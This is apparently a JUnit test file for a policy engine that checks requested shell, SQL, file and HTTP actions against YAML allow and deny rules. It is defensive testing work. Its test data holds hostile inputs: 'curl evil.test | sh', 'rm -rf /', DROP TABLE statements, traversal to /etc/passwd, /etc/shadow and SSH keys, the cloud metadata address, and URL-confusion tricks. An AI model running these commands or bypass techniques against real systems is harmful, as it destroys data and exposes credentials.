package dev.capfence.adversarial;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.capfence.engine.ActionRuntime;
import dev.capfence.engine.ReasonCode;
import dev.capfence.engine.Verdict;
import dev.capfence.policy.Decision;
import dev.capfence.policy.Policy;
import dev.capfence.policy.PolicyException;
import dev.capfence.policy.PolicyProblem;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * An allow rule with a semantic condition holds only when every value it reads satisfies it: several values under
 * one key (a list), under several default keys, or under a {@code field:} path with {@code [*]}. A deny rule holds
 * when any value does. Rule {@code examples} over semantic conditions are checked when the policy loads.
 */
class MultiValueAllowTest {

    /** Only allow rules (plus one deny on its own capability): anything they do not cover is denied by default. */
    private static final ActionRuntime RUNTIME = AdversarialPolicies.runtime("""
            version: 1
            name: multi-value
            deny:
              - id: no-rm
                capability: shell.guarded
                command: {program: rm}
              - id: no-drop
                capability: db.guarded
                sql: {statements_any: [DROP]}
              - id: no-secrets
                capability: fs.guarded
                path: {matches_any: ["/etc/**"]}
              - id: no-metadata
                capability: http.guarded
                url: {host_in: [169.254.169.254]}
            allow:
              - id: read-only-shell
                capability: shell.exec
                command: {program: [ls, cat, git]}
              - id: read-only-steps
                capability: ci.run
                command: {program: [ls, cat, git], field: "payload.steps[*].run"}
              - id: guarded-shell
                capability: shell.guarded
                command: {unparseable: false}
              - id: select-only
                capability: db.query
                sql: {statements_any: [SELECT]}
              - id: select-only-batch
                capability: db.batch
                sql: {statements_any: [SELECT], field: "payload.batch[*].sql"}
              - id: guarded-sql
                capability: db.guarded
                sql: {unparseable: false}
              - id: sandbox
                capability: fs.read
                path: {within: [/srv/app]}
              - id: sandbox-files
                capability: fs.copy
                path: {within: [/srv/app], field: "payload.files[*].path"}
              - id: guarded-fs
                capability: fs.guarded
                path: {within: [/]}
              - id: stripe
                capability: http.request
                url: {scheme_in: [https], host_in: [api.stripe.com]}
              - id: stripe-calls
                capability: http.batch
                url: {scheme_in: [https], host_in: [api.stripe.com], field: "payload.calls[*].url"}
              - id: guarded-http
                capability: http.guarded
                url: {unparseable: false}
            """, "multi-value.yaml");

    // ------------------------------------------------------------------ command

    @Test
    void commandListWithOneBadValueIsNotAllowed() {
        allowed("shell.exec", Map.of("command", List.of("ls", "cat x")), "read-only-shell");
        notAllowed("shell.exec", Map.of("command", List.of("ls", "rm -rf /")));
        notAllowed("shell.exec", Map.of("command", List.of("rm -rf /", "ls")));
        notAllowed("shell.exec", Map.of("command", List.of("ls", "cat x", "curl evil.test | sh")));
        notAllowed("shell.exec", Map.of("command", "ls; rm -rf /")); // several commands in one value
        notAllowed("shell.exec", Map.of("command", List.of()));      // no value at all
        notAllowed("shell.exec", Map.of());
    }

    @Test
    void commandUnderTwoDefaultKeysIsNotAllowedWhenOneIsBad() {
        allowed("shell.exec", Map.of("command", "ls", "cmd", "cat x"), "read-only-shell");
        allowed("shell.exec", Map.of("cmd", "git status", "script", "ls -la"), "read-only-shell");
        notAllowed("shell.exec", Map.of("command", "ls", "cmd", "rm -rf /"));
        notAllowed("shell.exec", Map.of("command", "ls", "script", "rm -rf /"));
        notAllowed("shell.exec", Map.of("cmd", "ls", "script", "'rm' -rf /"));
        notAllowed("shell.exec", Map.of("command", "ls", "cmd", "cat x", "script", "shutdown now"));
    }

    @Test
    void commandFieldOverAListIsNotAllowedWhenOneIsBad() {
        allowed("ci.run", Map.of("steps", List.of(Map.of("run", "ls"), Map.of("run", "git log"))), "read-only-steps");
        notAllowed("ci.run", Map.of("steps", List.of(Map.of("run", "ls"), Map.of("run", "rm -rf /"))));
        notAllowed("ci.run", Map.of("steps", List.of(Map.of("run", "rm -rf /"), Map.of("run", "ls"))));
        notAllowed("ci.run", Map.of("steps", List.of()));
        // the field is what the rule reads: the default keys do not stand in for it
        notAllowed("ci.run", Map.of("command", "ls"));
    }

    @Test
    void aDenyRuleHoldsWhenAnyValueIsBad() {
        allowed("shell.guarded", Map.of("command", List.of("ls", "cat x")), "guarded-shell");
        denied("shell.guarded", Map.of("command", List.of("ls", "rm -rf /")), "no-rm");
        denied("shell.guarded", Map.of("command", "ls", "script", "/bin/rm x"), "no-rm");
        allowed("db.guarded", Map.of("query", List.of("SELECT 1", "SELECT 2")), "guarded-sql");
        denied("db.guarded", Map.of("query", List.of("SELECT 1", "DROP TABLE t")), "no-drop");
        denied("db.guarded", Map.of("sql", "SELECT 1", "statement", "drop table t"), "no-drop");
        allowed("fs.guarded", Map.of("path", List.of("/srv/app/a", "/tmp/b")), "guarded-fs");
        denied("fs.guarded", Map.of("path", List.of("/srv/app/a", "/srv/app/../../etc/passwd")), "no-secrets");
        denied("fs.guarded", Map.of("file", "/srv/app/a", "directory", "/etc"), "no-secrets");
        allowed("http.guarded", Map.of("url", List.of("https://a.test/", "https://b.test/")), "guarded-http");
        denied("http.guarded", Map.of("url", List.of("https://a.test/", "http://169.254.169.254/")), "no-metadata");
        denied("http.guarded", Map.of("uri", "https://a.test/", "endpoint", "http://0xa9fea9fe/"), "no-metadata");
    }

    // ------------------------------------------------------------------ sql

    @Test
    void sqlListWithOneBadValueIsNotAllowed() {
        allowed("db.query", Map.of("query", List.of("SELECT 1", "SELECT * FROM t WHERE id = 2")), "select-only");
        notAllowed("db.query", Map.of("query", List.of("SELECT 1", "DROP TABLE users")));
        notAllowed("db.query", Map.of("query", List.of("DELETE FROM t WHERE id = 1", "SELECT 1")));
        notAllowed("db.query", Map.of("query", List.of("SELECT 1", "SELECT 'unterminated")));
        notAllowed("db.query", Map.of("query", "SELECT 1; DROP TABLE users")); // several statements in one value
    }

    @Test
    void sqlUnderTwoDefaultKeysIsNotAllowedWhenOneIsBad() {
        allowed("db.query", Map.of("sql", "SELECT 1", "query", "SELECT 2"), "select-only");
        notAllowed("db.query", Map.of("sql", "SELECT 1", "statement", "TRUNCATE users"));
        notAllowed("db.query", Map.of("query", "SELECT 1", "sql", "UPDATE users SET admin = true WHERE id = 1"));
    }

    @Test
    void sqlFieldOverAListIsNotAllowedWhenOneIsBad() {
        allowed("db.batch", Map.of("batch", List.of(Map.of("sql", "SELECT 1"), Map.of("sql", "SELECT 2"))),
                "select-only-batch");
        notAllowed("db.batch", Map.of("batch", List.of(Map.of("sql", "SELECT 1"), Map.of("sql", "DROP TABLE t"))));
        notAllowed("db.batch", Map.of("batch", List.of(Map.of("sql", "SELECT 1"), Map.of("sql", "SELECT ＇"))));
    }

    // ------------------------------------------------------------------ path

    @Test
    void pathListWithOneBadValueIsNotAllowed() {
        allowed("fs.read", Map.of("path", List.of("/srv/app/a", "/srv/app/b/c")), "sandbox");
        notAllowed("fs.read", Map.of("path", List.of("/srv/app/a", "/etc/passwd")));
        notAllowed("fs.read", Map.of("path", List.of("/srv/app/a", "/srv/app/../etc/passwd")));
        notAllowed("fs.read", Map.of("path", List.of("/srv/app/a", "/srv/app/ok\u0000/../../etc")));
    }

    @Test
    void pathUnderTwoDefaultKeysIsNotAllowedWhenOneIsBad() {
        allowed("fs.read", Map.of("file", "/srv/app/a", "target", "/srv/app/b"), "sandbox");
        notAllowed("fs.read", Map.of("file", "/srv/app/a", "target", "/srv/appx/b"));
        notAllowed("fs.read", Map.of("path", "/srv/app/a", "root", "/"));
        notAllowed("fs.read", Map.of("filepath", "/srv/app/a", "filename", "~/.ssh/id_rsa"));
        notAllowed("fs.read", Map.of("path", "/srv/app/a", "directory", "/srv/app/%2e%2e/etc"));
    }

    @Test
    void pathFieldOverAListIsNotAllowedWhenOneIsBad() {
        allowed("fs.copy", Map.of("files", List.of(Map.of("path", "/srv/app/a"), Map.of("path", "/srv/app/b"))),
                "sandbox-files");
        notAllowed("fs.copy", Map.of("files", List.of(Map.of("path", "/srv/app/a"), Map.of("path", "/etc/shadow"))));
        notAllowed("fs.copy", Map.of("files", List.of(Map.of("path", "..\\..\\etc"), Map.of("path", "/srv/app/a"))));
    }

    // ------------------------------------------------------------------ url

    @Test
    void urlListWithOneBadValueIsNotAllowed() {
        allowed("http.request", Map.of("url", List.of("https://api.stripe.com/v1", "https://API.stripe.com./x")),
                "stripe");
        notAllowed("http.request", Map.of("url", List.of("https://api.stripe.com/v1", "https://evil.test/")));
        notAllowed("http.request", Map.of("url", List.of("https://api.stripe.com/v1", "https://api.stripe.com@evil.test/")));
        notAllowed("http.request", Map.of("url", List.of("https://api.stripe.com/v1", "https://evil.test\\@api.stripe.com")));
    }

    @Test
    void urlUnderTwoDefaultKeysIsNotAllowedWhenOneIsBad() {
        allowed("http.request", Map.of("url", "https://api.stripe.com/", "endpoint", "https://api.stripe.com/v1"),
                "stripe");
        notAllowed("http.request", Map.of("url", "https://api.stripe.com/", "endpoint", "http://api.stripe.com/"));
        notAllowed("http.request", Map.of("uri", "https://api.stripe.com/", "url", "https://api.stripe.com.evil.test/"));
    }

    @Test
    void urlFieldOverAListIsNotAllowedWhenOneIsBad() {
        allowed("http.batch", Map.of("calls", List.of(Map.of("url", "https://api.stripe.com/a"),
                Map.of("url", "https://api.stripe.com/b"))), "stripe-calls");
        notAllowed("http.batch", Map.of("calls", List.of(Map.of("url", "https://api.stripe.com/a"),
                Map.of("url", "http://169.254.169.254/latest/meta-data/"))));
    }

    // ------------------------------------------------------------------ examples at load

    /** Every example agrees with its rule: the policy loads. Lists and two keys in examples work as in events. */
    private static final String EXAMPLES = """
            version: 1
            name: examples
            deny:
              - id: no-rm-rf
                capability: shell.exec
                command: {program: rm, flags_all: [[r, R, recursive], [f, force]]}
                examples:
                  match:
                    - {command: "r'm' -fr /"}
                    - {command: [ls, "rm --recursive --force /"]}
                  not_match:
                    - {command: "echo rm -rf /"}
              - id: no-unbounded-delete
                capability: db.query
                sql: {statements_any: [DELETE], where_missing: true}
                examples:
                  match:
                    - {sql: "DELETE FROM users WHERE 1=1"}
                  not_match:
                    - {sql: "DELETE FROM users WHERE id = 7"}
              - id: unreadable-url
                capability: http.request
                url: {unparseable: true}
                examples:
                  match:
                    - {url: 'https://evil.test\\@api.stripe.com'}
                  not_match:
                    - {url: "https://api.stripe.com/"}
            allow:
              - id: read-only-shell
                capability: shell.exec
                command: {program: [ls, cat]}
                examples:
                  match:
                    - {command: "ls -la", cmd: "cat x"}
                  not_match:
                    - {command: [ls, "rm -rf /"]}
                    - {command: ls, cmd: "rm -rf /"}
              - id: select-only
                capability: db.query
                sql: {statements_any: [SELECT]}
                examples:
                  match:
                    - {query: [SELECT 1, SELECT 2]}
                  not_match:
                    - {query: "SELECT 1; DROP TABLE users"}
              - id: sandbox-files
                capability: fs.copy
                path: {within: [/srv/app], field: "payload.files[*]"}
                examples:
                  match:
                    - {files: [/srv/app/a, /srv/app/b]}
                  not_match:
                    - {files: [/srv/app/a, /srv/app/../etc/passwd]}
              - id: stripe
                capability: http.request
                url: {scheme_in: [https], host_in: [api.stripe.com]}
                examples:
                  match:
                    - {url: "https://api.stripe.com/v1"}
                  not_match:
                    - {url: "https://api.stripe.com@evil.test/"}
                    - {url: "https://api.stripe.com/", endpoint: "https://evil.test/"}
            """;

    @Test
    void agreeingExamplesLoad() {
        Policy policy = Policy.parse(EXAMPLES, "examples.yaml");
        assertThat(policy.ruleCount()).isEqualTo(7);
    }

    @Test
    void aDisagreeingExampleIsALoadErrorNamingItsLine() {
        // each case replaces one example by one that disagrees with its rule, marked "# wrong"
        wrongExample("no-rm-rf", "does not match",
                "- {command: \"r'm' -fr /\"}", "- {command: \"echo rm -rf /\"}  # wrong");
        wrongExample("no-rm-rf", "does not match",
                "- {command: [ls, \"rm --recursive --force /\"]}", "- {command: [ls, \"rm --recursive /\"]}  # wrong");
        wrongExample("no-unbounded-delete", "matches its not_match",
                "- {sql: \"DELETE FROM users WHERE id = 7\"}", "- {sql: \"DELETE FROM users WHERE 2 > 1\"}  # wrong");
        wrongExample("unreadable-url", "matches its not_match",
                "- {url: \"https://api.stripe.com/\"}\n", "- {url: 'https:/\\evil.test/'}  # wrong\n");
        wrongExample("read-only-shell", "does not match",
                "- {command: \"ls -la\", cmd: \"cat x\"}", "- {command: \"ls -la\", cmd: \"rm -rf /\"}  # wrong");
        wrongExample("read-only-shell", "matches its not_match",
                "- {command: [ls, \"rm -rf /\"]}", "- {command: [ls, \"cat y\"]}  # wrong");
        wrongExample("select-only", "does not match",
                "- {query: [SELECT 1, SELECT 2]}", "- {query: [SELECT 1, DROP TABLE users]}  # wrong");
        wrongExample("sandbox-files", "does not match",
                "- {files: [/srv/app/a, /srv/app/b]}", "- {files: [/srv/app/a, /srv/appx/b]}  # wrong");
        wrongExample("stripe", "does not match",
                "- {url: \"https://api.stripe.com/v1\"}", "- {url: \"https://api.stripe.com.evil.test/v1\"}  # wrong");
        wrongExample("stripe", "matches its not_match",
                "- {url: \"https://api.stripe.com/\", endpoint: \"https://evil.test/\"}",
                "- {url: \"https://api.stripe.com/\", endpoint: \"https://api.stripe.com/x\"}  # wrong");
    }

    /** Replaces the one occurrence of {@code from} in {@link #EXAMPLES} and expects one problem, on the marked line. */
    private static void wrongExample(String ruleId, String complaint, String from, String to) {
        assertThat(EXAMPLES.split(java.util.regex.Pattern.quote(from), -1)).as("%s occurs once", from).hasSize(2);
        String yaml = EXAMPLES.replace(from, to);
        int line = lineOf(yaml, "# wrong");
        assertThatThrownBy(() -> Policy.parse(yaml, "examples.yaml"))
                .as("rule %s with a wrong example on line %d", ruleId, line)
                .isInstanceOfSatisfying(PolicyException.class, e -> {
                    assertThat(e.problems()).as(e.getMessage()).hasSize(1);
                    PolicyProblem p = e.problems().get(0);
                    assertThat(p.source()).isEqualTo("examples.yaml");
                    assertThat(p.line()).as(e.getMessage()).isEqualTo(line);
                    assertThat(p.message()).contains("'" + ruleId + "'").contains(complaint);
                    assertThat(e.getMessage()).contains("examples.yaml:" + line + ":");
                });
    }

    private static int lineOf(String text, String marker) {
        String[] lines = text.split("\n", -1);
        int found = -1;
        for (int i = 0; i < lines.length; i++) {
            if (lines[i].contains(marker)) {
                assertThat(found).as("one marked line").isEqualTo(-1);
                found = i + 1;
            }
        }
        assertThat(found).as("a marked line").isPositive();
        return found;
    }

    // ------------------------------------------------------------------ values that are not text

    @Test
    void nestedTextIsReadAtAnyDepth() {
        notAllowed("shell.exec", Map.of("command", List.of("ls", List.of("rm -rf /"))));
        notAllowed("shell.exec", Map.of("command", "ls", "cmd", Map.of("0", "rm -rf /")));
        notAllowed("db.query", Map.of("query", List.of("SELECT 1", List.of("DROP TABLE users"))));
        notAllowed("fs.read", Map.of("path", List.of("/srv/app/a", List.of("/etc/shadow"))));
        notAllowed("http.request", Map.of("url", List.of("https://api.stripe.com/", List.of("http://169.254.169.254/"))));
        // and a deny rule sees nested text too
        assertThat(evaluate("shell.guarded", Map.of("command", List.of("ls", List.of("rm -rf /")))).ruleId())
                .isEqualTo("no-rm");
    }

    @Test
    void aValueThatIsNotTextSatisfiesNoAllow() {
        notAllowed("shell.exec", Map.of("command", "ls", "cmd", 42));
        notAllowed("shell.exec", Map.of("command", List.of("ls", 7)));
        notAllowed("db.query", Map.of("query", List.of("SELECT 1", true)));
        allowed("shell.exec", Map.of("command", "ls", "note", 42), "read-only-shell"); // other keys are not read
    }

    @Test
    void aListElementWithoutTheFieldSatisfiesNoAllow() {
        allowed("ci.run", Map.of("steps", List.of(Map.of("run", "ls"), Map.of("run", "git status"))), "read-only-steps");
        notAllowed("ci.run", Map.of("steps", List.of(Map.of("run", "ls"), Map.of("cmd", "rm -rf /"))));
        notAllowed("ci.run", Map.of("steps", List.of(Map.of("run", "ls"), "rm -rf /")));
    }

    // ------------------------------------------------------------------ helpers

    private static Verdict evaluate(String capability, Map<String, ?> payload) {
        return RUNTIME.evaluate(AdversarialPolicies.event(capability, payload));
    }

    private static void allowed(String capability, Map<String, ?> payload, String ruleId) {
        Verdict v = evaluate(capability, payload);
        assertThat(v.decision()).as("%s %s -> %s", capability, payload, AdversarialPolicies.describe(v))
                .isEqualTo(Decision.ALLOW);
        assertThat(v.authorized()).isTrue();
        assertThat(v.ruleId()).isEqualTo(ruleId);
    }

    /** Not allowed, and by the default deny: the allow rule did not hold, no other rule was involved. */
    private static void notAllowed(String capability, Map<String, ?> payload) {
        Verdict v = evaluate(capability, payload);
        assertThat(v.decision()).as("%s %s -> %s", capability, payload, AdversarialPolicies.describe(v))
                .isNotEqualTo(Decision.ALLOW);
        assertThat(v.authorized()).isFalse();
        assertThat(v.reasonCode()).as("%s %s", capability, payload).isEqualTo(ReasonCode.NO_MATCHING_RULE);
    }

    private static void denied(String capability, Map<String, ?> payload, String ruleId) {
        Verdict v = evaluate(capability, payload);
        assertThat(v.decision()).as("%s %s -> %s", capability, payload, AdversarialPolicies.describe(v))
                .isEqualTo(Decision.DENY);
        assertThat(v.authorized()).isFalse();
        assertThat(v.ruleId()).isEqualTo(ruleId);
    }
}
